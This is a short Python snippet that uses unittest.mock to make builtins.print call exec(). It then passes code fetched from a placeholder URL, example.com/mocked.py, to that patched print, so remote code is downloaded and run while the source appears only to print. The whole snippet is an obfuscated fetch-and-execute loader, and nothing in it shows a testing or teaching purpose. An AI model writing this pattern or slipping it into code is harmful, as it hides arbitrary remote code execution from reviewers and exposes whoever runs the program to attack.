import urllib.request
from unittest import mock

space = {}
with mock.patch("builtins.print", lambda code: exec(code, space)):
    print(urllib.request.urlopen("https://example.com/mocked.py").read())
